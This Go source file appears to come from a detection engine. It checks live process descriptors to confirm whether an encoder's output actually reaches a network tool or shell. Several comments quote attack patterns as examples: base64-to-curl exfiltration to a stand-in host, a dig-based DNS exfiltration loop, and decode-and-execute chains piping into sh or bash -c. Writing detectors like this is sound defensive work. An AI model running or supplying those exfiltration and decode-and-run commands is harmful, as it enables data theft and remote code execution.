package detect

import (
	"strconv"
	"strings"
)

// Pipe evidence for a sequence: the two steps of `base64 f | curl -d @-`
// are children of one shell, and the encoder's standard output is the pipe
// the network tool reads. Two children of one shell that ran within seconds
// of each other, `xxd f | head` and then `curl`, are not: the same parent is
// a guess, a shared pipe is evidence. A sequence with a Pipe compares the
// descriptors of its processes while they live, and raises at its
// signature's importance only when the shared pipe is shown or cannot be
// ruled out; shown not to be there, it raises at the lower Unpiped.

// StreamKind is what a standard stream refers to.
type StreamKind uint8

const (
	// StreamUnread: the process was gone, or its descriptor could not be
	// read.
	StreamUnread StreamKind = iota
	// StreamPipe is a pipe or a FIFO.
	StreamPipe
	// StreamSocket is a socket (a socketpair stands in for a pipe).
	StreamSocket
	// StreamOther is anything else: a terminal, a file, /dev/null.
	StreamOther
)

// Stream is one standard stream of a process: a pipe or socket by its
// inode (both ends of a pipe have the same one), anything else by the path
// its descriptor names. A named FIFO is a path: its descriptor says where
// it was opened, not that it is a FIFO.
type Stream struct {
	Kind StreamKind
	Ino  uint64
	// Name is the path of a StreamOther, as the kernel names it: chosen
	// by whoever made the file, so it is quoted wherever it is shown.
	Name string
}

// channel reports whether s can carry data between two processes.
func (s Stream) channel() bool { return s.Kind == StreamPipe || s.Kind == StreamSocket }

// file reports whether s is a path outside /dev: a file or named FIFO one
// process can write and another read, unlike a terminal or /dev/null.
func (s Stream) file() bool {
	return s.Kind == StreamOther && strings.HasPrefix(s.Name, "/") && !strings.HasPrefix(s.Name, "/dev/")
}

// same reports whether s and o are read and refer to one object.
func (s Stream) same(o Stream) bool {
	return s.Kind != StreamUnread && s.Kind == o.Kind && s.Ino == o.Ino && s.Name == o.Name
}

func (s Stream) String() string {
	switch s.Kind {
	case StreamPipe:
		return "pipe:[" + strconv.FormatUint(s.Ino, 10) + "]"
	case StreamSocket:
		return "socket:[" + strconv.FormatUint(s.Ino, 10) + "]"
	case StreamOther:
		return strconv.QuoteToASCII(s.Name)
	}
	return "unread"
}

// Stdio is a process's standard input and output.
type Stdio struct{ In, Out Stream }

// Descriptors reads live processes' descriptors, for pipe evidence.
// internal/proc implements it from /proc. Each call reads at most a few
// descriptors, and only for candidates of a sequence with a Pipe.
type Descriptors interface {
	// Stdio returns what pid's descriptors 0 and 1 refer to, StreamUnread
	// for those it could not read. comm, when not "", is the command name
	// the process must still have (a pid reused since is not read).
	Stdio(pid int, comm string) Stdio
	// FD returns what pid's descriptor fd refers to, as Stdio does: the
	// descriptor an interpreter reads its program from (sh /dev/fd/3).
	FD(pid int, comm string, fd int) Stream
	// Children returns at most max of pid's child processes, and whether
	// that is all of them.
	Children(pid int, max int) ([]int, bool)
	// Holds reports whether pid holds s open on a descriptor other than
	// 1 and 2 (a shell reading a command substitution), reading at most
	// max descriptors, and whether it read them all.
	Holds(pid int, s Stream, max int) (held, complete bool)
}

// SetDescriptors sets where pipe evidence comes from; without it (a replay,
// a simulation) a sequence's pipe is not checked and it raises at its
// signature's importance.
func (e *Engine) SetDescriptors(d Descriptors) { e.desc = d }

// maxRelayReads bounds the processes read when the producer's output and
// the consumer's input are different pipes: filters between them (base64 -d
// | gunzip | sh) relay the data. It bounds the cost of one check, not what
// an attacker can hide behind: when the children of the shells involved
// are more than this, or a sibling could not be read, a chain not found is
// "unshown", never "no pipe".
const maxRelayReads = 512

// maxHeldReads bounds the descriptors of a shell read to find the command
// substitution that captures a decoder's output.
const maxHeldReads = 256

// capture reads, for a producer whose output may be captured by its shell,
// which of its parent and grandparent holds its output pipe to read it.
func (e *Engine) capture(x *evalCtx, h *seqHit) {
	if !h.stdio.Out.channel() {
		return
	}
	h.captureRead = true
	pids := [2]int{x.ev.PPID, 0}
	if anc := x.ancestry(); len(anc) > 1 && subshellOf(&anc[0], &anc[1]) {
		pids[1] = anc[1].PID
	}
	for _, pid := range pids {
		if pid <= 1 {
			continue
		}
		held, complete := e.desc.Holds(pid, h.stdio.Out, maxHeldReads)
		if held {
			h.capturedBy = pid
			return
		}
		h.captureRead = h.captureRead && complete
	}
}

// PipeVerdict is what the descriptors showed about a sequence's pipe.
type PipeVerdict int

const (
	// PipeNotChecked: there were no descriptors to read (replay).
	PipeNotChecked PipeVerdict = iota
	// PipeShown: the producer's output reaches the consumer's input,
	// directly or through live siblings.
	PipeShown
	// PipeUnshown: a process had gone before its descriptors were read;
	// a shared pipe can be neither shown nor ruled out.
	PipeUnshown
	// PipeRefuted: the consumer does not read, or the producer does not
	// write, a pipe between siblings.
	PipeRefuted
)

// pipeCheck decides the verdict for producer p and consumer c, children of
// parent (the producer's parent; for a lineage sequence, the consumer may
// be a grandchild). relays returns the live relatives' streams, read only
// when needed, and whether every one was read. from and to name the
// producer's and consumer's steps in the reason.
func pipeCheck(p, c, parent Stdio, relays func() ([]Stdio, bool), from, to string) (PipeVerdict, string) {
	out, in := p.Out, c.In
	switch {
	case out.channel() && out.same(in):
		return PipeShown, out.String()
	case out.file() && out.same(in):
		// base64 f > /tmp/p & curl -d @- < /tmp/p, through a named FIFO
		// or a file.
		return PipeShown, "the file " + out.String()
	case in.Kind == StreamOther:
		return PipeRefuted, to + "'s standard input is " + in.String() + ", not a pipe"
	case in.channel() && in.same(parent.In):
		return PipeRefuted, to + "'s standard input is its parent's, " + in.String() + ", not a pipe from a sibling"
	case out.Kind == StreamOther:
		return PipeRefuted, from + "'s standard output is " + out.String() + ", not a pipe"
	case out.channel() && out.same(parent.Out):
		return PipeRefuted, from + "'s standard output is its parent's, " + out.String() + ", not a pipe to a sibling"
	case out.Kind == StreamUnread:
		return PipeUnshown, from + " had exited before its descriptors were read"
	case in.Kind == StreamUnread:
		return PipeUnshown, to + " had exited before its descriptors were read"
	}
	// Two different pipes: shown if live relatives relay one into the
	// other.
	sib, complete := relays()
	seen := make([]bool, len(sib))
	at, hops := out, 0
	for hops < len(sib) {
		next := -1
		for i, s := range sib {
			if !seen[i] && s.In.channel() && s.In.same(at) && s.Out.channel() {
				next = i
				break
			}
		}
		if next < 0 {
			break
		}
		seen[next] = true
		at, hops = sib[next].Out, hops+1
		if at.same(in) {
			return PipeShown, out.String() + " through " + strconv.Itoa(hops) + " filter(s) to " + in.String()
		}
	}
	for _, s := range sib {
		if s.In.Kind == StreamUnread || s.Out.Kind == StreamUnread {
			complete = false
		}
	}
	if !complete {
		return PipeUnshown, from + " writes " + out.String() + " and " + to + " reads " + in.String() + ", and not every process that could join them was read"
	}
	// Two pipes no live relative joins: a filter that has exited leaves
	// no trace (base32 f | fold | while read l; do dig …: fold is done
	// before dig runs), so this shows nothing either way.
	return PipeUnshown, from + " writes " + out.String() + " and " + to + " reads " + in.String() + ", and no live relative joins them (a filter may have exited)"
}

// pipeEvidence reads the pipe evidence of a completed sequence of s whose
// other step is h, the current event being x's. It returns the importance
// the alert is raised at and the match that says why.
// cur is the current event's hit, step the step it completes.
func (e *Engine) pipeEvidence(x *evalCtx, s *signature, cur, h *seqHit, step int) (Importance, *Match) {
	q := s.seq
	imp := s.info.Importance
	if q.pipe == nil || e.desc == nil {
		return imp, nil
	}
	hits := [2]*seqHit{}
	hits[step], hits[1-step] = cur, h
	prod, cons := hits[q.pipe.from], hits[1-q.pipe.from]
	for _, h := range hits {
		if !h.read {
			h.stdio, h.read = e.desc.Stdio(h.proc.PID, h.comm), true
		}
	}
	from, to := q.names[q.pipe.from], q.names[1-q.pipe.from]
	// What the consumer reads its program from: standard input, another
	// descriptor, or (inline code) the text its shell captured.
	c := cons.stdio
	var v PipeVerdict
	var why string
	switch cons.src.Kind {
	case SourceFD:
		if !cons.progRead {
			cons.prog, cons.progRead = e.desc.FD(cons.proc.PID, cons.comm, cons.src.FD), true
		}
		c.In = cons.prog
	case SourceInline:
		v, why = inlineCheck(prod, from)
		if cons.at.Before(prod.at) {
			// Code captured from a decoder is run after it.
			v, why = PipeRefuted, to+" ran before "+from
		}
	}
	if cons.src.Kind != SourceInline && prod.capturedBy > 0 && (prod.capturedBy == cons.proc.PID || prod.capturedBy == cons.proc.PPID) {
		// curl "http://x/$(base64 f)": the shell that captured the
		// encoder's output ran the network tool.
		v, why = PipeShown, "wrote "+prod.stdio.Out.String()+", read by its shell (pid "+strconv.Itoa(prod.capturedBy)+")"
		cons.src.Kind = SourceInline // reported as captured
	} else if cons.src.Kind != SourceInline {
		parent := e.desc.Stdio(prod.proc.PPID, "")
		relays := func() ([]Stdio, bool) { return e.relays(prod, cons) }
		v, why = pipeCheck(prod.stdio, c, parent, relays, from, to)
		if cons.src.Kind == SourceFD {
			// The program's descriptor stands where standard input does.
			why = strings.ReplaceAll(why, to+"'s standard input", to+"'s descriptor "+strconv.Itoa(cons.src.FD))
		}
	}
	m := &Match{Field: "pipe"}
	switch v {
	case PipeShown:
		m.Value = why
		m.Reason = from + " (pid " + strconv.Itoa(prod.proc.PID) + ") writes what " + to + " (pid " + strconv.Itoa(cons.proc.PID) + ") reads: " + why
		if cons.src.Kind == SourceInline {
			m.Value = "captured"
			m.Reason = from + " (pid " + strconv.Itoa(prod.proc.PID) + ") " + why + ", and " + to + " (pid " + strconv.Itoa(cons.proc.PID) + ") was run by that shell with what it read"
		}
	case PipeUnshown:
		m.Value = "unshown"
		m.Reason = "a shared pipe could be neither shown nor ruled out: " + why + "; raised at " + imp.String()
	case PipeRefuted:
		m.Value = "none"
		m.Reason = "no pipe from " + from + " to " + to + ": " + why + "; the same " + q.by + " alone is weaker evidence, so raised at " + q.pipe.unpiped.String() + ", not " + imp.String()
		imp = q.pipe.unpiped
	}
	return imp, m
}

// inlinePaired reports whether a pair of s whose consumer runs inline code
// is one: the producer's output captured by the shell that ran the
// consumer after it, or no way to tell (the producer gone before it was
// read: a quick decoder must gain nothing). Shown not to be so (a file, a
// pipe no shell above it reads, code run before it), it is no pair: a
// decoder beside a "sh -c" under one shell is everyday work (CI steps).
// Without descriptors (a replay, a simulation) nothing can be seen of a
// capture, the premise of the pair, and none is made.
func (e *Engine) inlinePaired(s *signature, cur, h *seqHit, step int) bool {
	q := s.seq
	if q.pipe == nil || e.desc == nil {
		return false
	}
	hits := [2]*seqHit{}
	hits[step], hits[1-step] = cur, h
	prod, cons := hits[q.pipe.from], hits[1-q.pipe.from]
	if cons.at.Before(prod.at) {
		return false
	}
	switch v, _ := inlineCheck(prod, q.names[q.pipe.from]); v {
	case PipeShown:
		return prod.capturedBy == cons.proc.PID || prod.capturedBy == cons.proc.PPID
	case PipeUnshown:
		return true
	}
	return false
}

// inlineCheck is the evidence that a decoder's output became the inline
// code of an interpreter its shell ran ("bash -c "$(… | base64 -d)""): the
// decoder's standard output is a pipe its shell held to read it (command
// substitution), seen when the decoder was.
func inlineCheck(prod *seqHit, from string) (PipeVerdict, string) {
	out := prod.stdio.Out
	switch {
	case prod.capturedBy > 0:
		return PipeShown, "wrote " + out.String() + ", read by its shell (pid " + strconv.Itoa(prod.capturedBy) + ")"
	case out.Kind == StreamOther:
		return PipeRefuted, from + "'s standard output is " + out.String() + ", not a pipe its shell reads"
	case out.Kind == StreamUnread:
		return PipeUnshown, from + " had exited before its descriptors were read"
	case prod.captureRead:
		return PipeRefuted, from + " writes " + out.String() + ", which no shell above it reads"
	}
	return PipeUnshown, "the shell above " + from + " could not be read"
}

// relays returns the streams of the live children of the producer's and
// the consumer's parents, other than the two, at most maxRelayReads of
// them, and whether that was every one.
func (e *Engine) relays(prod, cons *seqHit) ([]Stdio, bool) {
	var out []Stdio
	complete := true
	parents := [2]int{prod.proc.PPID, cons.proc.PPID}
	for i, pp := range parents {
		if i == 1 && pp == parents[0] {
			break
		}
		kids, all := e.desc.Children(pp, maxRelayReads-len(out))
		complete = complete && all
		for _, pid := range kids {
			if pid != prod.proc.PID && pid != cons.proc.PID {
				out = append(out, e.desc.Stdio(pid, ""))
			}
		}
	}
	return out, complete
}
